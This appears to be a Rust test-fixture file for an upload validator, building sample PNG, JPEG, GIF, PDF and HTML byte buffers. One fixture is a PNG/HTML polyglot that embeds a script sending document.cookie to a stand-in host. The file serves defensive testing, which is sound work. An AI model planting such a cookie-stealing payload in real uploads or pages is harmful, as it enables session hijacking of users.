//! Shared fixtures for the pipeline tests.
#![allow(dead_code)]

use uploadguard_core::ValidatorConfig;
use uploadguard_processing::UploadValidator;

pub const PNG_SIGNATURE: &[u8] = &[0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

/// SHA-256 of [`one_mib_fixture`].
pub const ONE_MIB_FIXTURE_SHA256: &str =
    "1c59b8670027384143781a8a8bff2f3b44bd8818d0f53b13b064c2375a1afe38";

/// Byte that starts no known signature and is not valid UTF-8 on its own.
const FILLER: u8 = 0xAA;

pub fn test_config() -> ValidatorConfig {
    ValidatorConfig {
        max_file_size: 2 * 1024 * 1024,
        ..ValidatorConfig::default()
    }
}

pub fn test_validator() -> UploadValidator {
    UploadValidator::new(test_config())
}

/// PNG signature, IHDR chunk, opaque body, IEND chunk.
pub fn png_fixture(len: usize) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(len);
    bytes.extend_from_slice(PNG_SIGNATURE);
    bytes.extend_from_slice(&[0x00, 0x00, 0x00, 0x0D, b'I', b'H', b'D', b'R']);
    bytes.extend_from_slice(&[0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01]);
    bytes.extend_from_slice(&[0x08, 0x02, 0x00, 0x00, 0x00, 0x90, 0x77, 0x53, 0xDE]);
    let trailer = [
        0x00, 0x00, 0x00, 0x00, b'I', b'E', b'N', b'D', 0xAE, 0x42, 0x60, 0x82,
    ];
    bytes.resize(len - trailer.len(), FILLER);
    bytes.extend_from_slice(&trailer);
    bytes
}

/// JFIF header, opaque entropy-coded body, EOI marker.
pub fn jpeg_fixture(len: usize) -> Vec<u8> {
    let mut bytes = vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00, 0x01, 0x01, 0x00,
        0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
    ];
    bytes.resize(len - 2, FILLER);
    bytes.extend_from_slice(&[0xFF, 0xD9]);
    bytes
}

pub fn gif_fixture(len: usize) -> Vec<u8> {
    let mut bytes = b"GIF89a\x01\x00\x01\x00\x80\x00\x00".to_vec();
    bytes.resize(len - 1, FILLER);
    bytes.push(0x3B);
    bytes
}

/// Text-only PDF with `objects` catalog objects.
pub fn pdf_fixture(objects: usize) -> Vec<u8> {
    let mut text = String::from("%PDF-1.4\n");
    for i in 1..=objects {
        text.push_str(&format!(
            "{} 0 obj\n<< /Type /Page /Parent 1 0 R /MediaBox [0 0 612 792] >>\nendobj\n",
            i
        ));
    }
    text.push_str("trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    text.into_bytes()
}

/// Header decodes as PNG, the 2 KiB starting at the midpoint as HTML.
pub fn png_html_polyglot(len: usize) -> Vec<u8> {
    let mut bytes = png_fixture(len);
    let mut html = b"<!DOCTYPE html><html><body><script>fetch('//x?c='+document.cookie)</script>"
        .to_vec();
    html.resize(2048, b' ');
    let mid = len / 2;
    bytes[mid..mid + html.len()].copy_from_slice(&html);
    bytes
}

pub fn html_document() -> Vec<u8> {
    b"<!DOCTYPE html>\n<html><head><title>hi</title></head><body><p>hello</p></body></html>\n"
        .to_vec()
}

/// Baseline JPEG, 16 KiB: JFIF APP0, a Photoshop XMP APP1 segment of about
/// 7.6 KB of edit history, DQT, SOF0, DHT, SOS and byte-stuffed scan data.
pub const PHOTO_XMP_JPG: &[u8] = include_bytes!("../fixtures/photo_xmp.jpg");

/// 64x64 RGB PNG: IHDR, an iTXt chunk holding an XMP packet, a
/// zlib-compressed IDAT and IEND, all with valid CRCs.
pub const CHART_ITXT_PNG: &[u8] = include_bytes!("../fixtures/chart_itxt.png");

/// PDF 1.7 with a FlateDecode content stream, an XMP metadata stream and an
/// xref table.
pub const REPORT_FLATE_PDF: &[u8] = include_bytes!("../fixtures/report_flate.pdf");

/// 1 MiB of a fixed arithmetic sequence.
pub fn one_mib_fixture() -> Vec<u8> {
    (0..1024 * 1024).map(|i: usize| ((i * 31 + 7) % 251) as u8).collect()
}
